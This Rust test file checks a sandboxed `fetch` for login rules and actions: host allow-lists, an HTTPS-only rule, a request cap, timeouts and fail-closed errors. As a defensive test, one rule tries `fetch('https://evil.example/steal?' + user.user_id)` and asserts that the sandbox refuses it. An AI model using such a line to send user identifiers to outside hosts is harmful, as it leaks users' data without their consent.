//! `fetch` against a fake network: absent without a declaration, limited to the declared
//! hosts, to HTTPS, to five requests and to the execution's time, and failing closed.

use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use custos_rules::{ActionEnd, Engine, HttpRequest, HttpResponse, Network, RuleEnd};
use serde_json::{json, Map, Value};

use crate::{
    compile_action_check, compile_check, run_action, run_rule, ActionOutcome, JsEngine, Limits,
    RuleOutcome, Sandbox, ScriptError,
};

/// A network that records what it is asked, waits `delay` (or the whole timeout, when
/// `honour_timeout`), and answers `{"department":"cardiology"}`.
#[derive(Default)]
struct Fake {
    calls: Mutex<Vec<(HttpRequest, Duration)>>,
    delay: Duration,
    honour_timeout: bool,
}

impl Fake {
    fn slow(delay: Duration) -> Self {
        Self {
            delay,
            ..Self::default()
        }
    }

    fn calls(&self) -> Vec<(HttpRequest, Duration)> {
        self.calls.lock().unwrap().clone()
    }
}

impl Network for Fake {
    fn fetch(&self, request: &HttpRequest, timeout: Duration) -> Result<HttpResponse, String> {
        self.calls.lock().unwrap().push((request.clone(), timeout));
        if self.honour_timeout {
            std::thread::sleep(timeout);
            return Err(format!("no response within {} ms", timeout.as_millis()));
        }
        std::thread::sleep(self.delay);
        Ok(HttpResponse {
            status: 200,
            headers: vec![
                ("content-type".into(), "application/json".into()),
                ("set-cookie".into(), "a=1".into()),
                ("set-cookie".into(), "b=2".into()),
            ],
            body: r#"{"department":"cardiology"}"#.into(),
        })
    }
}

fn sandbox_with(network: &Arc<Fake>) -> Sandbox {
    let network: Arc<dyn Network> = network.clone();
    Sandbox::new(Limits::default())
        .unwrap()
        .with_network(network)
}

fn user() -> Value {
    json!({"user_id": "auth0|123", "app_metadata": {}, "user_metadata": {}})
}

fn context() -> Value {
    json!({"clientID": "client-1", "idToken": {}, "accessToken": {}, "request": {"body": {}}})
}

fn rule(sandbox: &Sandbox, script: &str) -> RuleOutcome {
    run_rule(sandbox, script, &user(), &context(), &json!({})).outcome
}

fn event() -> Value {
    json!({"user": {"user_id": "auth0|123"}, "secrets": {"API_KEY": "s3cret"}})
}

fn action(sandbox: &Sandbox, code: &str) -> ActionOutcome {
    run_action(sandbox, code, "post-login", &event(), &Map::new()).outcome
}

/// A rule that reports, in `context.out`, what `body` (an async block) returned.
fn reporting_rule(directive: &str, body: &str) -> String {
    format!(
        "{directive}\nasync function (user, context, callback) {{\n  context.out = await (async () => {{ {body} }})();\n  callback(null, user, context);\n}}"
    )
}

fn out(outcome: RuleOutcome) -> Value {
    match outcome {
        RuleOutcome::Continue { context, .. } => context["out"].clone(),
        other => panic!("expected Continue, got {other:?}"),
    }
}

fn failure(outcome: &RuleOutcome) -> &str {
    match outcome {
        RuleOutcome::Failed { error } => error,
        other => panic!("expected Failed, got {other:?}"),
    }
}

const DECLARED: &str = "// @custos-allow-https api.example.com, hooks.example.com:8443";

#[test]
fn there_is_no_fetch_without_a_declaration() {
    let network = Arc::new(Fake::default());
    let probe = "return typeof fetch;";
    for sandbox in [
        Sandbox::new(Limits::default()).unwrap(),
        sandbox_with(&network),
    ] {
        assert_eq!(out(rule(&sandbox, &reporting_rule("", probe))), "undefined");
        let code = "exports.onExecutePostLogin = async (event, api) => { api.idToken.setCustomClaim('t', typeof fetch); };";
        match action(&sandbox, code) {
            ActionOutcome::Continue(effects) => {
                assert_eq!(effects.id_token_claims["t"], "undefined");
            }
            other => panic!("{other:?}"),
        }
    }
    // A directive-like line that is not the directive declares nothing.
    let sandbox = sandbox_with(&network);
    let script = reporting_rule("// @custos-allow-http api.example.com", probe);
    assert_eq!(out(rule(&sandbox, &script)), "undefined");
    assert!(network.calls().is_empty());
}

#[test]
fn a_rule_reads_a_declared_host_and_sets_a_claim() {
    let network = Arc::new(Fake::default());
    let script = format!(
        "{DECLARED}\nasync function (user, context, callback) {{\n  const response = await fetch('https://API.example.com/departments?user=' + encodeURIComponent(user.user_id));\n  const data = await response.json();\n  context.idToken['https://clinic.example/department'] = data.department;\n  callback(null, user, context);\n}}"
    );
    match rule(&sandbox_with(&network), &script) {
        RuleOutcome::Continue { context, .. } => assert_eq!(
            context["idToken"]["https://clinic.example/department"],
            "cardiology"
        ),
        other => panic!("{other:?}"),
    }
    let calls = network.calls();
    assert_eq!(calls.len(), 1);
    let (request, timeout) = &calls[0];
    assert_eq!(request.method, "GET");
    assert_eq!(
        request.url,
        "https://api.example.com/departments?user=auth0%7C123"
    );
    assert!(request.body.is_none() && request.headers.is_empty());
    // The timeout is what is left of the execution's 100 ms.
    assert!(
        *timeout > Duration::ZERO && *timeout <= Duration::from_millis(100),
        "{timeout:?}"
    );
}

#[test]
fn an_action_sends_method_headers_and_body_and_reads_the_response() {
    let network = Arc::new(Fake::default());
    let code = format!(
        r#"{DECLARED}
exports.onExecutePostLogin = async (event, api) => {{
  const response = await fetch('https://hooks.example.com:8443/hook', {{
    method: 'post',
    headers: {{ 'content-type': 'application/json', 'x-api-key': event.secrets.API_KEY }},
    body: JSON.stringify({{ user: event.user.user_id }}),
  }});
  const data = await response.json();
  api.idToken.setCustomClaim('https://clinic.example/department', data.department);
  api.idToken.setCustomClaim('r', {{
    status: response.status, ok: response.ok, url: response.url,
    type: response.headers.get('Content-Type'), cookies: response.headers.get('set-cookie'),
    missing: response.headers.get('x-missing'), has: response.headers.has('CONTENT-TYPE'),
    text: await response.text(),
  }});
}};"#
    );
    let effects = match action(&sandbox_with(&network), &code) {
        ActionOutcome::Continue(effects) => effects,
        other => panic!("{other:?}"),
    };
    assert_eq!(
        effects.id_token_claims["https://clinic.example/department"],
        "cardiology"
    );
    assert_eq!(
        effects.id_token_claims["r"],
        json!({
            "status": 200, "ok": true, "url": "https://hooks.example.com:8443/hook",
            "type": "application/json", "cookies": "a=1, b=2", "missing": null, "has": true,
            "text": "{\"department\":\"cardiology\"}",
        })
    );
    let (request, _) = &network.calls()[0];
    assert_eq!(request.method, "POST");
    assert_eq!(request.body.as_deref(), Some(r#"{"user":"auth0|123"}"#));
    assert!(request
        .headers
        .contains(&("x-api-key".to_owned(), "s3cret".to_owned())));
}

#[test]
fn requests_outside_the_declaration_are_rejected_with_a_type_error() {
    let network = Arc::new(Fake::default());
    let sandbox = sandbox_with(&network);
    let cases = [
        (
            "https://evil.example/",
            "evil.example is not in the script's allow-list",
        ),
        // The declared port is part of the host.
        (
            "https://hooks.example.com/",
            "hooks.example.com is not in the script's allow-list",
        ),
        (
            "https://api.example.com:8443/",
            "api.example.com:8443 is not in the script's allow-list",
        ),
        (
            "https://127.0.0.1/",
            "127.0.0.1 is not in the script's allow-list",
        ),
        ("http://api.example.com/", "only https URLs are allowed"),
        ("ftp://api.example.com/", "only https URLs are allowed"),
        ("https://user:pw@api.example.com/", "credentials"),
        ("not a url", "does not parse"),
    ];
    for (url, expected) in cases {
        let body = format!(
            "try {{ await fetch({url:?}); return 'sent'; }} catch (e) {{ return [e instanceof TypeError, e.message]; }}"
        );
        let reported = out(rule(&sandbox, &reporting_rule(DECLARED, &body)));
        assert_eq!(reported[0], true, "{url}: {reported}");
        let message = reported[1].as_str().unwrap();
        assert!(message.contains(expected), "{url}: {message}");
    }
    let bad_options = [
        ("fetch()", "a URL is required"),
        (
            "fetch('https://api.example.com/', 7)",
            "options must be an object",
        ),
        (
            "fetch('https://api.example.com/', {body: {a: 1}, method: 'POST'})",
            "body must be a string",
        ),
        (
            "fetch('https://api.example.com/', {body: 'x'})",
            "GET or HEAD request cannot have a body",
        ),
        (
            "fetch('https://api.example.com/', {headers: 'x'})",
            "headers must be",
        ),
        (
            "fetch('https://api.example.com/', {headers: {a: {b: 1}}})",
            "headers must be",
        ),
    ];
    for (call, expected) in bad_options {
        let body =
            format!("try {{ await {call}; return 'sent'; }} catch (e) {{ return e.message; }}");
        let reported = out(rule(&sandbox, &reporting_rule(DECLARED, &body)));
        assert!(
            reported.as_str().unwrap().contains(expected),
            "{call}: {reported}"
        );
    }
    assert!(
        network.calls().is_empty(),
        "nothing refused reached the network"
    );
}

#[test]
fn a_refused_fetch_that_is_not_caught_fails_the_script() {
    let network = Arc::new(Fake::default());
    let sandbox = sandbox_with(&network);
    let script = format!(
        "{DECLARED}\nasync function (user, context, callback) {{\n  await fetch('https://evil.example/steal?' + user.user_id);\n  callback(null, user, context);\n}}"
    );
    let outcome = rule(&sandbox, &script);
    let error = failure(&outcome);
    assert!(error.contains("without calling callback"), "{error}");
    assert!(
        error.contains("TypeError: fetch: evil.example is not in the script's allow-list"),
        "{error}"
    );
    let code = format!(
        "{DECLARED}\nexports.onExecutePostLogin = async (event, api) => {{ await fetch('http://api.example.com/'); }};"
    );
    match action(&sandbox, &code) {
        ActionOutcome::Failed { error } => assert!(error.contains("only https"), "{error}"),
        other => panic!("{other:?}"),
    }
    assert!(network.calls().is_empty());
}

#[test]
fn at_most_five_requests_per_execution() {
    let network = Arc::new(Fake::default());
    let sandbox = sandbox_with(&network);
    let body = "const results = [];
      for (let i = 0; i < 7; i++) {
        try { results.push((await fetch('https://api.example.com/' + i)).status); }
        catch (e) { results.push(e.message); }
      }
      return results;";
    let reported = out(rule(&sandbox, &reporting_rule(DECLARED, body)));
    let results = reported.as_array().unwrap();
    assert_eq!(results[..5], vec![json!(200); 5]);
    for refused in &results[5..] {
        assert!(
            refused.as_str().unwrap().contains("at most 5 requests"),
            "{refused}"
        );
    }
    assert_eq!(network.calls().len(), 5);
    // The count is per execution: the next one starts again.
    let reported = out(rule(&sandbox, &reporting_rule(DECLARED, body)));
    assert_eq!(reported.as_array().unwrap()[0], 200);
    assert_eq!(network.calls().len(), 10);
}

#[test]
fn a_slow_network_never_lets_the_script_continue() {
    // Past the deadline whether the network overruns its timeout or honours it, and even when
    // the script catches the error.
    let overrunning = Arc::new(Fake::slow(Duration::from_millis(250)));
    let honouring = Arc::new(Fake {
        honour_timeout: true,
        ..Fake::default()
    });
    let rule_script = reporting_rule(
        DECLARED,
        "try { return (await fetch('https://api.example.com/')).status; } catch (e) { return e.message; }",
    );
    let action_code = format!(
        "{DECLARED}\nexports.onExecutePostLogin = async (event, api) => {{ try {{ await fetch('https://api.example.com/'); }} catch (e) {{}} }};"
    );
    for network in [&overrunning, &honouring] {
        let sandbox = sandbox_with(network);
        let started = Instant::now();
        let outcome = rule(&sandbox, &rule_script);
        assert!(
            matches!(outcome, RuleOutcome::TimedOut | RuleOutcome::Failed { .. }),
            "{outcome:?}"
        );
        let outcome = action(&sandbox, &action_code);
        assert!(
            matches!(
                outcome,
                ActionOutcome::TimedOut | ActionOutcome::Failed { .. }
            ),
            "{outcome:?}"
        );
        assert!(started.elapsed() < Duration::from_secs(2));
        for (_, timeout) in network.calls() {
            assert!(timeout <= Duration::from_millis(100), "{timeout:?}");
        }
    }
    // Once the time is up, nothing more is sent.
    let network = Arc::new(Fake::slow(Duration::from_millis(150)));
    let body = "for (let i = 0; i < 3; i++) { try { await fetch('https://api.example.com/'); } catch (e) {} } return 'done';";
    let outcome = rule(&sandbox_with(&network), &reporting_rule(DECLARED, body));
    assert!(!outcome.allows(), "{outcome:?}");
    assert_eq!(network.calls().len(), 1);
}

#[test]
fn declared_hosts_without_a_network_are_rejected() {
    let sandbox = Sandbox::new(Limits::default()).unwrap();
    let body = "try { await fetch('https://api.example.com/'); return 'sent'; } catch (e) { return [typeof fetch, e.message]; }";
    let reported = out(rule(&sandbox, &reporting_rule(DECLARED, body)));
    assert_eq!(reported[0], "function");
    assert!(
        reported[1]
            .as_str()
            .unwrap()
            .contains("network access is not configured"),
        "{reported}"
    );
}

#[test]
fn a_malformed_declaration_is_refused_at_save_time_and_fails_at_run_time() {
    let script = "function (user, context, callback) {\n  // @custos-allow-https *.example.com\n  callback(null, user, context);\n}";
    match compile_check(script) {
        Err(ScriptError::Syntax {
            message,
            line,
            column,
        }) => {
            assert_eq!((line, column), (2, 26));
            assert!(message.contains("@custos-allow-https"), "{message}");
            assert!(message.contains("wildcards"), "{message}");
        }
        other => panic!("{other:?}"),
    }
    let code = "// @custos-allow-https https://api.example.com\nexports.onExecutePostLogin = async () => {};";
    assert!(matches!(
        compile_action_check(code),
        Err(ScriptError::Syntax { line: 1, .. })
    ));
    let network = Arc::new(Fake::default());
    let sandbox = sandbox_with(&network);
    let error = failure(&rule(&sandbox, script)).to_owned();
    assert!(error.contains("wildcards"), "{error}");
    match action(&sandbox, code) {
        ActionOutcome::Failed { error } => assert!(error.contains("scheme"), "{error}"),
        other => panic!("{other:?}"),
    }
    // Well-formed declarations pass the save-time checks.
    assert_eq!(
        compile_check(&reporting_rule(DECLARED, "return 1;")),
        Ok(())
    );
}

#[test]
fn the_engine_hands_its_network_to_the_scripts_it_runs() {
    let network = Arc::new(Fake::default());
    let shared: Arc<dyn Network> = network.clone();
    let with = JsEngine::new(Limits::default()).with_network(shared);
    let without = JsEngine::new(Limits::default());
    let code = format!(
        "{DECLARED}\nexports.onExecutePostLogin = async (event, api) => {{\n  const data = await (await fetch('https://api.example.com/')).json();\n  api.idToken.setCustomClaim('https://clinic.example/department', data.department);\n}};"
    );
    assert_eq!(with.check_action(&code), Ok(()));
    // Both on this thread, each with its own sandbox.
    for _ in 0..2 {
        match with
            .run_action(&code, "post-login", &event(), &Map::new())
            .end
        {
            ActionEnd::Continue(effects) => assert_eq!(
                effects.id_token_claims["https://clinic.example/department"],
                "cardiology"
            ),
            other => panic!("{other:?}"),
        }
        match without
            .run_action(&code, "post-login", &event(), &Map::new())
            .end
        {
            ActionEnd::Failed { error } => {
                assert!(error.contains("not configured"), "{error}");
            }
            other => panic!("{other:?}"),
        }
    }
    assert_eq!(network.calls().len(), 2);
    let script = format!(
        "{DECLARED}\nfunction (user, context, callback) {{ fetch('https://evil.example/').then(() => callback(null, user, context)); }}"
    );
    assert!(matches!(
        with.run_rule(&script, &user(), &context(), &json!({})).end,
        RuleEnd::Failed { .. }
    ));
    assert_eq!(network.calls().len(), 2);
}
